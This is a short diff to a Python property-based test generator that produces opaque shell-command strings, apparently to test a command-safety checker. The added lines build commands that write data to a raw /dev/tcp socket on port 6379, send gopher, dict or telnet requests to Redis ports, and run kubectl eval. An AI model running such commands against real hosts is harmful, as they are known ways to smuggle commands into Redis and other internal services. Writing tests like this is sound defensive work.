@@ -99,6 +99,9 @@ def opaque_snippet(draw: st.DrawFn) -> str:
         f"kubectl exec pod-0 -n ns -- eval {words}",
         f"sudo ${draw(VAR)} {words}",
         f"xargs ${draw(VAR)}",
+        f"echo {words or 'x'} > /dev/tcp/{draw(WORD)}/6379",
+        f"curl -s {draw(st.sampled_from(['gopher', 'dict', 'telnet']))}://{draw(WORD)}:6379/_{words or 'x'}",
+        f"kubectl run t --image=x -- eval {words}",
     ]
     return draw(st.sampled_from(forms))
 
